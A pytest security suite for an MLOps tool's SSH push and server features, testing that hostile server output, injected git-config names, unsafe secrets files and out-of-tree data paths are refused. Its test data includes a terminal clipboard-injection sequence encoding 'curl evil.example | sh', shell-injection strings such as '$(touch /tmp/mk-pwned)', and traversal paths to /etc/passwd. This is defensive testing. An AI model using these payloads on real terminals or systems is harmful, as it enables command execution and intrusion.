"""The team's server as an attacker or a careless admin would set it up (issue #20, the LOW items
on the server side): hostile output from the server (terminal control sequences, forged or huge
`--json`), a project name from git config with `$(...)`, a `secrets.env` that is a link, a FIFO,
a folder or someone else's file, branch names with a newline, a known_hosts path with a space,
the pinned `core.sshCommand`, and `data.source` outside the pushed repository.

The SSH tests use a REAL sshd (tests/_sshd.py); its `mlops-kit` is a STAND-IN script (first on
the sessions' PATH) that prints what a compromised server would."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from mlops_kit._terminal import printable
from mlops_kit.errors import ParameterError, ServerError
from mlops_kit.params import load_params
from mlops_kit.server import SSH, push
from mlops_kit.server.ledger import checked_records, server_from_git

pytestmark = pytest.mark.security
REPO = Path(__file__).resolve().parent.parent
OSC_TITLE = "\x1b]0;owned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
CSI_HIDE = "\x1b[2K\x1b[1A\r"


@pytest.mark.parametrize("text, shown", [
    (f"run {OSC_TITLE}r1{OSC_CLIPBOARD} ok", "run r1 ok"),
    (f"fake{CSI_HIDE}line", "fakeline"),
    ("a\x9b31mb\x07\x00c", "a31mbc"),                # C1 CSI, BEL, NUL
    ("\x1bPq#0;2;0;0;0\x1b\\sixel", "sixel"),         # DCS
    ("tab\tand\nnewline and é stay\r\n", "tab\tand\nnewline and é stay\n"),
])
def test_printable_strips_terminal_control_sequences(text, shown):
    assert printable(text) == shown


def record(run_id="r1", **extra):
    return {"id": run_id, "created": "2026-01-01T00:00:00Z", "status": "succeeded", "stages": {}, **extra}


@pytest.mark.parametrize("text, many, found", [
    ("not json", True, "text that is not JSON"),
    (json.dumps({"id": "r1"}), True, "a JSON dict"),
    (json.dumps([{"id": "r1"}]), True, "record 0: status: Field required"),
    (json.dumps([record(), record(status=["x"])]), True, "record 1: status: Input should be a valid string"),
    (json.dumps([record("../../etc")]), True, "record 0: id '../../etc', not a run id"),
    (json.dumps(record(f"{OSC_TITLE}x")), False, "not a run id"),
])
def test_json_from_the_server_is_checked_as_run_records(text, many, found):
    with pytest.raises(ServerError, match="`mlops-kit runs --json` on the server must print") as err:
        checked_records(text, many=many, host="ssh://a@h:22")
    assert found in str(err.value) and "\x1b" not in str(err.value)
    assert checked_records(json.dumps([record()]), many=True, host="h") == [record()]


# --- git config --------------------------------------------------------------------------------

def repo_with(tmp_path: Path, **config: str) -> Path:
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    for key, value in config.items():
        subprocess.run(["git", "-C", str(repo), "config", f"mlops-kit.{key}", value], check=True)
    return repo


@pytest.mark.parametrize("project", ["$(touch /tmp/mk-pwned)", "p;id", "a b", "../other", "p\n", "-x"])
def test_project_from_git_config_is_checked_when_read(tmp_path, project):
    repo = repo_with(tmp_path, host="ssh://alice@127.0.0.1:1", project=project)    # port 1: never reached
    with pytest.raises(ServerError, match="mlops-kit.project in this repository's git config must be letters") as err:
        server_from_git(repo)
    assert repr(project) in str(err.value)


# --- secrets.env -------------------------------------------------------------------------------

@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    folder = tmp_path / ".config" / "mlops-kit"
    folder.mkdir(parents=True)
    return tmp_path


def secrets_path(home: Path) -> Path:
    return home / ".config" / "mlops-kit" / "secrets.env"


def test_secrets_symlink_is_never_followed(home, tmp_path):
    target = tmp_path / "elsewhere.env"
    target.write_text("API_TOKEN=from-the-link\n")
    target.chmod(0o600)
    secrets_path(home).symlink_to(target)
    with pytest.raises(ServerError, match="must be a regular file. Got a symbolic link"):
        push.read_secrets()


def test_secrets_fifo_is_refused_without_blocking(home):
    os.mkfifo(secrets_path(home), 0o600)
    outcome = []
    reader = threading.Thread(target=lambda: outcome.append(_raised(push.read_secrets)), daemon=True)
    reader.start()
    reader.join(120)                     # a bound against a hang (the hook would hold the lock)
    if reader.is_alive():
        with open(secrets_path(home), "w"):    # unblock the reader before failing
            pass
        pytest.fail("read_secrets blocked on a FIFO")
    assert "must be a regular file. Got a FIFO" in outcome[0]


def test_secrets_folder_is_a_clear_error(home):
    secrets_path(home).mkdir(mode=0o700)
    assert "must be a regular file. Got a folder" in _raised(push.read_secrets)


def test_secrets_of_another_user_are_refused(home):
    if os.geteuid() != 0:
        pytest.skip("chown to another user needs root")
    path = secrets_path(home)
    path.write_text("API_TOKEN=planted\n")
    path.chmod(0o600)
    os.chown(path, 65534, 65534)
    assert f"must be owned by the user who receives pushes (uid {os.getuid()}). Got a file owned by uid 65534" \
        in _raised(push.read_secrets)


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o775])
def test_secrets_in_a_folder_others_may_change_are_refused(home, mode):
    path = secrets_path(home)
    path.write_text("API_TOKEN=x\n")
    path.chmod(0o600)
    path.parent.chmod(mode)
    message = _raised(push.read_secrets)
    assert "must be in a folder only its owner may change" in message and f"mode {mode:04o}" in message


def _raised(call) -> str:
    try:
        call()
    except ServerError as exc:
        assert "Traceback" not in str(exc)
        return str(exc)
    raise AssertionError("no ServerError")


# --- names, ssh options ------------------------------------------------------------------------

@pytest.mark.parametrize("option, value", [("branch", "main\n"), ("remote", "server\n"), ("project", "p\n")])
def test_a_trailing_newline_is_not_a_name(tmp_path, option, value):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    ssh = SSH("ssh://alice@127.0.0.1:1")               # never reached
    with pytest.raises(ServerError, match="must be"):
        push.init(ssh, repo_dir=tmp_path, **{option: value}, log=lambda line: None)


def test_git_ssh_command_pins_one_known_hosts_file_and_one_key(tmp_path):
    key = tmp_path / "id key"
    key.write_text("")
    ssh = SSH("ssh://alice@server.example:2222", identity_file=key, known_hosts=tmp_path / "known hosts%d")
    argv = shlex.split(push.git_ssh_command(ssh))
    options = [argv[i + 1] for i, a in enumerate(argv) if a == "-o"]
    assert f'UserKnownHostsFile="{tmp_path}/known hosts%%d"' in options     # one file, for ssh's own parser
    assert "GlobalKnownHostsFile=/dev/null" in options and "IdentitiesOnly=yes" in options
    assert "StrictHostKeyChecking=yes" in options and "BatchMode=yes" in options
    assert argv[argv.index("-i") + 1] == str(key)
    assert "~/.ssh/known_hosts" not in " ".join(argv)


# --- data.source on the server ------------------------------------------------------------------

def test_data_source_outside_the_pushed_repository_is_refused_on_the_server(tmp_path, monkeypatch):
    project = tmp_path / "work"
    (project / "parameters").mkdir(parents=True)
    (project / "parameters" / "default.yaml").write_text((REPO / "parameters" / "default.yaml").read_text())
    (project / "data").mkdir()
    (project / "data" / "ok.csv").write_text("a,target\n1,0\n")
    outside = tmp_path / "server-secrets.csv"
    outside.write_text("password,target\nhunter2,1\n")
    (project / "data" / "link.csv").symlink_to(outside)
    monkeypatch.setenv("MLOPS_KIT_PROJECT_DIR", str(project))
    monkeypatch.setenv("MLOPS_KIT_RUNS_DIR", str(tmp_path / "runs"))
    monkeypatch.chdir(project)
    monkeypatch.setenv("MLOPS_KIT_CONFINE_DATA", "1")           # what the push receiver sets
    assert load_params(None, [f"data.source=data/ok.csv"]).params.data.source == str(project / "data" / "ok.csv")
    for source in (str(outside), "data/link.csv", "../server-secrets.csv", "~/../../etc/x.csv"):
        with pytest.raises(ParameterError) as err:
            load_params(None, [f"data.source={source}"])
        message = str(err.value)
        assert "data.source: expected a data file inside the pushed repository or the runs folder" in message
        assert "hunter2" not in message and "password" not in message
    monkeypatch.delenv("MLOPS_KIT_CONFINE_DATA")               # on a laptop: any file of the user's
    assert load_params(None, [f"data.source={outside}"]).params.data.source == str(outside)


def test_the_receiver_confines_its_pipeline(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    repo = tmp_path / "repo"
    repo.mkdir()
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e",
           "PATH": "/usr/bin:/bin"}
    (repo / "f").write_text("x")
    for args in (["init", "-q", "-b", "main"], ["add", "f"], ["commit", "-q", "-m", "x"]):
        subprocess.run(["git", "-C", str(repo), *args], check=True, env=env)
    head = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    kit = tmp_path / "kit.py"
    kit.write_text("import json, os, sys\nprint(json.dumps({'id': 'r1', 'status': 'succeeded', 'metrics': {}, "
                   "'confined': os.environ.get('MLOPS_KIT_CONFINE_DATA')}))\n"
                   "print(os.environ['MLOPS_KIT_CONFINE_DATA'] + '\\x1b]0;title\\x07 relayed', file=sys.stderr)\n")
    monkeypatch.chdir(repo)
    import io
    out = io.StringIO()
    assert push.receive([f"{'0' * 40} {head} refs/heads/main"], project="proj", out=out,
                        kit=[sys.executable, str(kit)]) == 0
    assert "  1 relayed" in out.getvalue() and "\x1b" not in out.getvalue()


@pytest.mark.parametrize("link", ["/etc/passwd", "../../../../etc/passwd"])
def test_a_pushed_link_out_of_the_checkout_is_refused(tmp_path, monkeypatch, link):
    import io

    monkeypatch.setenv("HOME", str(tmp_path))
    repo = tmp_path / "repo"
    (repo / "data").mkdir(parents=True)
    (repo / "data" / "table.csv").symlink_to(link)
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e",
           "PATH": "/usr/bin:/bin"}
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "x"]):
        subprocess.run(["git", "-C", str(repo), *args], check=True, env=env)
    head = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    monkeypatch.chdir(repo)
    out = io.StringIO()
    assert push.receive([f"{'0' * 40} {head} refs/heads/main"], project="proj", out=out,
                        kit=[sys.executable, "-c", "raise SystemExit('must not run')"]) == 1
    assert f"REFUSED: The commit {head[:12]} must check out as a plain tree. Got " in out.getvalue()


# --- a real sshd ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def sshd():
    from _sshd import Sshd

    server = Sshd().start()
    yield server
    server.stop_all()


STAND_IN_KIT = """#!/bin/sh
# STAND-IN for a compromised server's mlops-kit: prints what {mode} says
exec python3 -c 'import sys; sys.stdout.write(open("{mode}").read()) if True else None; \
sys.stdout.write("x" * (17 << 20)) if open("{mode}").read() == "HUGE" else None'
"""


@pytest.mark.ssh
@pytest.mark.parametrize("answer, args, check", [
    (f"r1 {OSC_TITLE}{OSC_CLIPBOARD}succeeded{CSI_HIDE}\n", [], lambda p: p.returncode == 0 and
     p.stdout == "r1 succeeded\n"),
    (json.dumps([{"id": "r1", "created": "c", "status": f"ok{OSC_TITLE}"}]), ["--json"], lambda p: p.returncode == 0
     and json.loads(p.stdout)[0]["status"] == f"ok{OSC_TITLE}" and "\x1b" not in p.stdout),
    ('[{"id": "r1"}]', ["--json"], lambda p: p.returncode == 1 and "record 0: status: Field required" in p.stderr),
    ("HUGE", [], lambda p: p.returncode == 1 and f"must print at most {16 << 20} bytes" in p.stderr),
])
def test_runs_list_server_output_is_bounded_checked_and_printable(sshd, tmp_path, answer, args, check):
    mode = sshd.dir / "kit-answer"
    mode.write_text(answer)
    script = sshd.bin / "mlops-kit"
    script.write_text(STAND_IN_KIT.format(mode=mode))
    script.chmod(0o755)
    try:
        repo = repo_with(tmp_path, host=sshd.url(), identityFile=str(sshd.user_key),
                         knownHosts=str(sshd.known_hosts), project="proj")
        proc = subprocess.run([sys.executable, "-m", "mlops_kit.cli", "runs", "list", "--server", *args], cwd=repo,
                              capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=180)
    finally:
        script.unlink()
    assert check(proc), proc.stdout[:2000] + proc.stderr[:2000]
    assert "\x1b" not in proc.stdout + proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.ssh
def test_a_known_hosts_path_with_a_space_works_and_fixes_are_quoted(sshd, tmp_path):
    folder = tmp_path / "my keys"
    folder.mkdir()
    known = folder / "known hosts"
    known.write_text(sshd.known_hosts.read_text())
    ssh = SSH(sshd.url(), identity_file=sshd.user_key, known_hosts=known)
    assert ssh.run("echo ok").stdout == "ok\n"                   # not "CHANGED key"
    # git's core.sshCommand, as `server init` writes it, reaches the server with that file only
    argv = shlex.split(push.git_ssh_command(ssh))
    proc = subprocess.run([*argv, "-p", str(sshd.port), "root@127.0.0.1", "echo", "ok"], capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 0 and proc.stdout == "ok\n", proc.stderr
    # an unknown key: the fix command quotes the path
    known.write_text("")
    with pytest.raises(ServerError, match="Got an unknown key instead") as err:
        ssh.run("true")
    assert shlex.quote(str(known)) in err.value.fix and "'" in shlex.quote(str(known))
    fix = err.value.fix.split("then: ", 1)[1]
    subprocess.run(fix, shell=True, check=True, capture_output=True, timeout=60)   # the fix works as printed
    assert ssh.run("echo ok").stdout == "ok\n"
